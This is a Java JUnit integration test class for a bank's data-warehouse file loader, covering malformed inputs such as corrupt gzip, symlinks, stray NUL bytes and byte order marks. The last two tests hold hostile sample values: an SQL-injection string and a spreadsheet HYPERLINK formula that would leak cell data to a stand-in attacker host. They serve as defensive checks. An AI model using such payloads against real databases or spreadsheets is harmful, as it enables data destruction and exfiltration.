package com.bank.gdw.loader.it;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.LocalDate;
import java.time.format.DateTimeFormatter;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.BeforeParameterizedClassInvocation;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.MethodSource;

import com.bank.gdw.loader.camel.RunOutcome;
import com.bank.gdw.loader.dcf.RunStatus;
import com.bank.gdw.loader.testkit.RecordLines;
import com.bank.gdw.loader.testkit.TestDatabase;

import static org.assertj.core.api.Assertions.assertThat;

/** The bad-input catalogue: each case ends with a clear one-line error where one applies, nothing wrongly loaded, nothing lost. */
@ParameterizedClass(name = "{0}")
@MethodSource("com.bank.gdw.loader.testkit.TestDatabase#enabled")
class BadInputTest extends ScenarioTest {

    BadInputTest(TestDatabase database) {
        // chosen per class invocation
    }

    @BeforeParameterizedClassInvocation
    static void start(TestDatabase database) {
        h = LoaderHarness.start("bad-input-" + database, LoaderHarness.options().database(database, "bad_input")
                .property("loader.files.settle-ms", "800").property("loader.files.settle-max-wait-ms", "1500"));
    }

    private static LocalDate day(int n) {
        return LocalDate.of(2026, 6, 1).plusDays(n);
    }

    private static String ctl(LocalDate d, long n) {
        return "CTL|" + d.format(DateTimeFormatter.BASIC_ISO_DATE) + "|" + n + "\n";
    }

    private static String records(String prefix, int n) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            sb.append(RecordLines.record(h.stream(), prefix + String.format("%04d", i)).line()).append('\n');
        }
        return sb.toString();
    }

    private Map<String, Object> unit(RunOutcome o, String unit) {
        return h.rows("SELECT * FROM DCF_T_PRCS_INST WHERE STRM_INST_ID = ? AND PRCS_NAME = ?", o.runId(), unit).get(0);
    }

    private String load(LocalDate d) {
        return h.stream().files().loadName("BCFINSG_CA", d, false);
    }

    private String trigger(LocalDate d) {
        return h.stream().files().triggerName("BCFINSG_CA", d);
    }

    /** Files dropped long ago: the run still watches them for loader.files.settle-ms (FileSettlingTest). */
    private static void age(String... names) throws IOException {
        for (String n : names) {
            Files.setLastModifiedTime(h.landing().resolve(n), java.nio.file.attribute.FileTime.from(java.time.Instant.now().minusSeconds(60)));
        }
    }

    @Test
    void an_empty_load_file_completes_with_no_rows_and_is_archived() throws IOException {
        LocalDate d = day(1);
        h.drop(load(d), "");
        h.drop(trigger(d), ctl(d, 0));
        age(load(d), trigger(d));

        RunOutcome o = h.run(d);

        assertThat(o.status()).isEqualTo(RunStatus.COMPLETED);
        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "COMPLETED");
        assertThat(((Number) unit(o, "BCFINSG_CA").get("INPUT_ROWS")).longValue()).isZero();
        assertThat(LoaderHarness.files(h.archiveLoad())).contains(load(d));
    }

    @Test
    void an_empty_trigger_means_no_control_line_and_the_unit_loads() throws IOException {
        LocalDate d = day(8);
        h.drop(load(d), records("8", 3));
        h.drop(trigger(d), "");
        age(load(d), trigger(d));

        RunOutcome o = h.run(d);

        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "COMPLETED");
        assertThat(h.number("SELECT COUNT(*) FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ?", d)).isEqualTo(3);
        assertThat(LoaderHarness.files(h.archiveTrigger())).contains(trigger(d));
    }

    @Test
    void a_trailing_delimiter_makes_130_fields_and_rejects_that_record_by_line() throws IOException {
        LocalDate d = day(9);
        String trailing = RecordLines.record(h.stream(), "9999").line() + "|";
        h.drop(load(d), records("9", 4) + trailing + "\n");
        h.drop(trigger(d), ctl(d, 5));
        age(load(d), trigger(d));

        RunOutcome o = h.run(d);

        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "COMPLETED");
        assertThat(((Number) unit(o, "BCFINSG_CA").get("REJECTED_ROWS")).longValue()).isEqualTo(1);
        assertThat(h.rows("SELECT LINE_NUMBER, CONV_MAP_RULE_M FROM UTIL_TRSF_EROR_RQM3 WHERE PRCS_INST_ID = ?",
                unit(o, "BCFINSG_CA").get("PRCS_INST_ID")))
                .extracting(r -> r.get("LINE_NUMBER") + " " + r.get("CONV_MAP_RULE_M")).containsExactly("5 FIELD_COUNT");
        assertThat(h.number("SELECT COUNT(*) FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ?", d)).isEqualTo(4);
    }

    @Test
    void a_gz_file_that_is_not_gzip_fails_with_the_file_named_and_goes_to_error() throws IOException {
        LocalDate d = day(2);
        String name = h.stream().files().loadName("BCFINSG_CA", d, true);
        h.drop(name, records("2", 5));
        h.drop(trigger(d), "");
        age(name, trigger(d));

        RunOutcome o = h.run(d);

        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "FAILED").containsEntry("ERROR_MESSAGE", name + ": not a gzip file (no gzip header)");
        assertThat(LoaderHarness.files(h.error())).contains(name, trigger(d));
    }

    private static byte[] gzip(String text) throws IOException {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(out)) {
            gz.write(text.getBytes(StandardCharsets.UTF_8));
        }
        return out.toByteArray();
    }

    @Test
    void bytes_after_the_last_gzip_member_fail_the_unit_at_once_and_nothing_of_it_loads() throws IOException {
        LocalDate d = day(12);
        String name = h.stream().files().loadName("BCFINSG_CA", d, true);
        byte[] damaged = gzip(records("13", 20));
        damaged[2] = 9; // a second member whose compression method is not deflate: java.util.zip stopped there silently
        java.io.ByteArrayOutputStream file = new java.io.ByteArrayOutputStream();
        file.writeBytes(gzip(records("12", 30)));
        file.writeBytes(damaged);
        h.drop(name, file.toByteArray());
        h.drop(trigger(d), ""); // no control count to catch the missing records
        age(name, trigger(d));

        RunOutcome o = h.run(d);

        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "FAILED")
                .containsEntry("ERROR_MESSAGE", name + " line 31: corrupt gzip data (gzip member 2: compression method 9, not deflate)");
        assertThat(LoaderHarness.files(h.error())).contains(name, trigger(d));
        assertThat(h.number("SELECT COUNT(*) FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ?", d)).isZero();
    }

    @Test
    void a_gzip_file_cut_inside_its_header_is_the_file_s_failure_not_retried_as_the_infrastructure_s() throws IOException {
        LocalDate d = day(13);
        String name = h.stream().files().loadName("BCFINSG_CA", d, true);
        h.drop(name, java.util.Arrays.copyOf(gzip(records("14", 5)), 5));
        h.drop(trigger(d), "");
        age(name, trigger(d));

        RunOutcome o = h.run(d);

        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "FAILED")
                .containsEntry("ERROR_MESSAGE", name + " line 1: the gzip data ends early (truncated file)");
        assertThat(LoaderHarness.files(h.error())).contains(name, trigger(d));
    }

    @Test
    void a_unit_with_both_a_plain_and_a_gzip_load_file_fails_naming_both_and_leaves_neither_in_landing() throws IOException {
        LocalDate d = day(14);
        String gz = h.stream().files().loadName("BCFINSG_CA", d, true);
        h.drop(load(d), records("15", 3));
        h.drop(gz, gzip(records("16", 4)));
        h.drop(trigger(d), "");
        age(load(d), gz, trigger(d));

        RunOutcome o = h.run(d);

        // which of the two is the unit cannot be told; loading one left the other in landing for ever, never loaded
        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "FAILED").containsEntry("ERROR_MESSAGE",
                "two load files for trigger " + trigger(d) + ": " + load(d) + " and " + gz + "; resend the unit with one");
        assertThat(LoaderHarness.files(h.error())).contains(load(d), gz, trigger(d));
        assertThat(LoaderHarness.files(h.landing())).doesNotContain(load(d), gz, trigger(d));
        assertThat(h.number("SELECT COUNT(*) FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ?", d)).isZero();
    }

    @Test
    void a_10_mb_line_is_rejected_by_its_line_number_and_the_other_records_load() throws IOException {
        LocalDate d = day(3);
        String body = records("3", 40) + "x".repeat(10 << 20) + "\n" + records("4", 40);
        h.drop(load(d), body);
        h.drop(trigger(d), ctl(d, 81));
        age(load(d), trigger(d));

        RunOutcome o = h.run(d);

        Map<String, Object> u = unit(o, "BCFINSG_CA");
        assertThat(u).containsEntry("PRCS_STATUS", "COMPLETED");
        assertThat(((Number) u.get("ROWS_WRITTEN")).intValue()).isEqualTo(80);
        Map<String, Object> reject = h.rows("SELECT LINE_NUMBER, CONV_MAP_RULE_M, VALU_CHNG_BFOR_X FROM UTIL_TRSF_EROR_RQM3 WHERE PRCS_INST_ID = ?",
                u.get("PRCS_INST_ID")).get(0);
        assertThat(((Number) reject.get("LINE_NUMBER")).intValue()).isEqualTo(41);
        assertThat(reject).containsEntry("CONV_MAP_RULE_M", "FIELD_COUNT");
        assertThat(((String) reject.get("VALU_CHNG_BFOR_X")).length()).isEqualTo(4000);
    }

    @Test
    void a_file_where_every_record_is_rejected_loads_nothing_and_keeps_every_reject() throws IOException {
        LocalDate d = day(4);
        h.drop(load(d), records("5", 12).replace("\n", "|extra\n"));
        h.drop(trigger(d), ctl(d, 12));
        age(load(d), trigger(d));

        RunOutcome o = h.run(d);

        Map<String, Object> u = unit(o, "BCFINSG_CA");
        assertThat(u).containsEntry("PRCS_STATUS", "QUALITY_ISSUES");
        assertThat(h.number("SELECT COUNT(*) FROM UTIL_TRSF_EROR_RQM3 WHERE PRCS_INST_ID = ?", u.get("PRCS_INST_ID"))).isEqualTo(12);
        assertThat(h.number("SELECT COUNT(*) FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ?", d)).isZero();
        assertThat(LoaderHarness.files(h.error())).contains(load(d), trigger(d));
    }

    @Test
    void a_load_file_still_being_written_when_the_trigger_arrives_is_left_for_the_next_run() throws Exception {
        LocalDate d = day(5);
        h.drop(trigger(d), "");
        age(trigger(d));
        Path file = h.landing().resolve(load(d));
        h.dropped(file);
        ExecutorService writer = Executors.newSingleThreadExecutor();
        try {
            Future<?> writing = writer.submit(() -> {
                try (OutputStream out = Files.newOutputStream(file, StandardOpenOption.CREATE, StandardOpenOption.APPEND)) {
                    for (int i = 0; i < 20; i++) {
                        out.write(RecordLines.record(h.stream(), "60" + String.format("%02d", i)).line().concat("\n").getBytes(StandardCharsets.UTF_8));
                        out.flush();
                        Thread.sleep(150);
                    }
                }
                return null;
            });

            RunOutcome during = h.run(d);

            assertThat(during.status()).isEqualTo(RunStatus.NO_DATA_AVAILABLE);
            assertThat(LoaderHarness.files(h.landing())).contains(load(d), trigger(d));
            writing.get(30, TimeUnit.SECONDS);
        } finally {
            writer.shutdownNow();
        }
        age(load(d));

        RunOutcome after = h.run(d);

        assertThat(after.status()).isEqualTo(RunStatus.COMPLETED);
        assertThat(h.number("SELECT COUNT(*) FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ?", d)).isEqualTo(20);
    }

    @Test
    void a_symbolic_link_in_landing_pointing_outside_is_ignored_and_left_alone() throws IOException {
        LocalDate d = day(6);
        Path outside = Files.createDirectories(h.dataDir().resolve("outside")).resolve("secret.txt");
        Files.writeString(outside, records("7", 3));
        Path link = Files.createSymbolicLink(h.landing().resolve(load(d)), outside);
        Path triggerLink = Files.createSymbolicLink(h.landing().resolve(h.stream().files().triggerName("BCFINSG_CB", d)), outside);

        RunOutcome o = h.run(d);

        assertThat(o.status()).isEqualTo(RunStatus.NO_DATA_AVAILABLE);
        assertThat(Files.isSymbolicLink(link)).isTrue();
        assertThat(Files.isSymbolicLink(triggerLink)).isTrue();
        assertThat(Files.readString(outside)).isEqualTo(records("7", 3));
        assertThat(h.number("SELECT COUNT(*) FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ?", d)).isZero();
        Files.delete(link);
        Files.delete(triggerLink);
    }

    @Test
    void a_byte_order_mark_written_by_a_windows_tool_is_not_part_of_the_first_record_or_the_control_line() throws IOException {
        LocalDate d = day(10);
        h.drop(load(d), "\uFEFF" + records("10", 3));
        h.drop(trigger(d), "\uFEFF" + ctl(d, 3).replace("\n", "\r\n"));
        age(load(d), trigger(d));

        RunOutcome o = h.run(d);

        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "COMPLETED");
        assertThat(((Number) unit(o, "BCFINSG_CA").get("REJECTED_ROWS")).longValue()).isZero();
        assertThat(h.rows("SELECT CORP_IDNN, ACCT_I FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ? AND ROW_I = 1", d))
                .containsExactly(Map.of("CORP_IDNN", "C001", "ACCT_I", "100000"));
    }

    @Test
    void a_control_line_carrying_a_nul_byte_is_a_control_mismatch_recorded_with_the_byte_escaped() throws IOException {
        LocalDate d = day(11);
        h.drop(load(d), records("11", 3));
        h.drop(trigger(d), ctl(d, 3).replace("\n", "\u0000\n"));
        age(load(d), trigger(d));

        RunOutcome o = h.run(d);

        // PostgreSQL refuses NUL in text: written raw, the unit's outcome could never be recorded and it was retried forever
        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "CONTROL_MISMATCH");
        assertThat((String) unit(o, "BCFINSG_CA").get("ERROR_MESSAGE")).contains("line 1 column 3").contains("3\\x00");
        assertThat(LoaderHarness.files(h.error())).contains(load(d), trigger(d));
        assertThat(h.number("SELECT COUNT(*) FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ?", d)).isZero();
    }

    @Test
    void values_carrying_sql_are_loaded_verbatim() throws IOException {
        LocalDate d = day(7);
        String evil = "'); DROP TABLE x;--";
        h.drop(load(d), RecordLines.record(h.stream(), evil).with("USER_CODE", "';--").with("ORIG_STAT", "\"\\'").line() + "\n"
                + records("8", 5));
        h.drop(trigger(d), ctl(d, 6));
        age(load(d), trigger(d));

        RunOutcome o = h.run(d);

        assertThat(o.status()).isEqualTo(RunStatus.COMPLETED);
        assertThat(h.rows("SELECT ACCT_I, USER_CODE, ORIG_STAT FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ? AND ACCT_I = ?", d, evil))
                .containsExactly(Map.of("ACCT_I", evil, "USER_CODE", "';--", "ORIG_STAT", "\"\\'"));
        assertThat(h.number("SELECT COUNT(*) FROM PLAN_BALN_SEGM_MSTR WHERE EFFT_D = ?", d)).isEqualTo(6);
    }

    /**
     * The reject file goes back to the source system and is opened in spreadsheets: a cell that a spreadsheet would
     * run as a formula (it starts with = + - @, a tab or a carriage return) starts with a quote there; a plain number
     * stays as it is; the reject table keeps the value unchanged.
     */
    @Test
    void a_reject_file_cell_never_starts_a_formula() throws IOException {
        LocalDate d = day(15);
        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        String lines = RecordLines.record(h.stream(), "F001").with("CURR_MIN_PAYT_DUE", hyperlink).line() + "\n"
                + RecordLines.record(h.stream(), "F002").with("CURR_MIN_PAYT_DUE", "+1+2").line() + "\n"
                + RecordLines.record(h.stream(), "F003").with("CURR_MIN_PAYT_DUE", "@SUM(A1)").line() + "\n"
                + RecordLines.record(h.stream(), "F004").with("CURR_MIN_PAYT_DUE", "-12.34567").line() + "\n"
                + "=1+2|too|few\n"
                + records("F1", 20);
        h.drop(load(d), lines);
        h.drop(trigger(d), ctl(d, 25));
        age(load(d), trigger(d));

        RunOutcome o = h.run(d);

        assertThat(unit(o, "BCFINSG_CA")).containsEntry("PRCS_STATUS", "COMPLETED");
        java.util.List<String> csv = Files.readAllLines(h.reports().resolve("PLAN_BALN_SEGM_MSTR_" + d.format(DateTimeFormatter.BASIC_ISO_DATE)
                + "_BCFINSG_CA_REJECTS.csv"));
        assertThat(csv).hasSize(6);
        assertThat(csv.get(1)).startsWith("1,INVALID_VALUE,CURR_MIN_PAYT_DUE,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",");
        assertThat(csv.get(2)).startsWith("2,INVALID_VALUE,CURR_MIN_PAYT_DUE,'+1+2,");
        assertThat(csv.get(3)).startsWith("3,INVALID_VALUE,CURR_MIN_PAYT_DUE,'@SUM(A1),");
        assertThat(csv.get(4)).startsWith("4,INVALID_VALUE,CURR_MIN_PAYT_DUE,-12.34567,");
        assertThat(csv.get(5)).startsWith("5,FIELD_COUNT,,'=1+2|too|few,'=1+2|too|few");
        assertThat(h.rows("SELECT VALU_CHNG_BFOR_X FROM UTIL_TRSF_EROR_RQM3 WHERE PRCS_INST_ID = ? AND LINE_NUMBER = 1",
                unit(o, "BCFINSG_CA").get("PRCS_INST_ID")).get(0).get("VALU_CHNG_BFOR_X")).isEqualTo(hyperlink);
    }
}
